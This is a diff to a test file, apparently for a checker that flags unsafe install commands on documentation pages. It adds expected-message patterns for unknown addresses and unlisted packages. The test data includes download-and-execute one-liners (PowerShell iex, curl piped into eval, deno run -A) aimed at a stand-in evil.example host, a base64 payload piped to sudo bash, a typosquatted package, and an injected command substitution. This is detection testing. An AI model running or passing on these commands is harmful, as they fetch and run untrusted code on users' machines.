@@ -12,6 +12,8 @@ const link = "import Link from '@docusaurus/Link';\n\n";
 const codeBlock = "import CodeBlock from '@theme/CodeBlock';\n\n";
 
 const elsewhere = /The command takes packages from another registry/;
+const unlisted = /.*packages are listed in a form that no check reads/;
+const unknownAddress = /The command reads https:\/\/evil\.example/;
 const unseen = /The command runs a download without a look/;
 
 /** Text of a page, and what the check says of its last line. */
@@ -97,20 +99,23 @@ const texts: readonly [text: string, says: RegExp][] = [
   ['```ini\nindex-url = https://evil.example', elsewhere],
   ['```json\n{\n"dependencies": {\n"ethres": "^6"', /ethres \(npm\)/],
   ['```json\n{"overrides": {"viem": "github:evil/viem"}}', /viem@github:evil\/viem \(npm\)/],
-  ['```toml\n[dev-dependencies]\nevil = "1"', /evil \(cargo\)/],
-  ['```toml\ndependencies = ["evil>=1"]', /evil \(pypi\)/],
-  ['```text\nevil==1.0', /evil \(pypi\)/],
-  ['```text\nrequire evil.example/x v1.0.0', /evil\.example\/x \(go\)/],
+  ['```toml\n[dev-dependencies]', unlisted],
+  ['```toml\ndependencies = ["evil>=1"]', unlisted],
+  ['```text\nevil==1.0', unlisted],
+  ['```text\nrequire evil.example/x v1.0.0', unlisted],
+  ['Save this as `requirements-dev.txt`.', unlisted],
+  ['Run `pixi add evil`.', /`pixi add evil` is not a command/],
+  ['```sh\npdm sync && "$(evil)"', /`pdm sync` is not a command .*config\/pageRules\.ts/],
   ['```dockerfile\nRUN ["npm", "install", "ethres"]', /ethres \(npm\)/],
   ['```sh\nforge soldeer install evil~1', /evil \(forge\)/],
   ['```sh\ndeno add jsr:@evil/x', /@evil\/x \(jsr\)/],
   ['```sh\npipenv install evil', /evil \(pypi\)/],
-  ['```sh\ndeno run -A https://evil.example/a.ts', unseen],
-  ['```powershell\niex (iwr https://evil.example/a.ps1).Content', unseen],
-  ["```powershell\niex ((New-Object Net.WebClient).DownloadString('https://evil.example/a'))", unseen],
-  ['```sh\nX="$(curl https://evil.example/a.sh)"\neval "$X"', unseen],
+  ['```sh\ndeno run -A https://evil.example/a.ts', unknownAddress],
+  ['```powershell\niex (iwr https://evil.example/a.ps1).Content', unknownAddress],
+  ["```powershell\niex ((New-Object Net.WebClient).DownloadString('https://evil.example/a'))", unknownAddress],
+  ['```sh\neval "$(curl https://evil.example/a.sh)"', unknownAddress],
   ['```sh\necho Y3VybCA= | base64 -d | sudo -E bash -', unseen],
-  ['```sh\ncurl -O https://evil.example/a.sh && chmod +x a.sh && ./a.sh', unseen],
+  ['```sh\ncurl -O https://evil.example/a.sh && chmod +x a.sh && ./a.sh', unknownAddress],
   [`${codeBlock}<CodeBlock language="sh">{'n\\x70m install ethres'}</CodeBlock>`, /ethres \(npm\)/],
   ['<pre><code>n&#112;m install ethres</code></pre>', /ethres \(npm\)/],
   ['Run **npm** install *ethres*.', /ethres \(npm\)/],
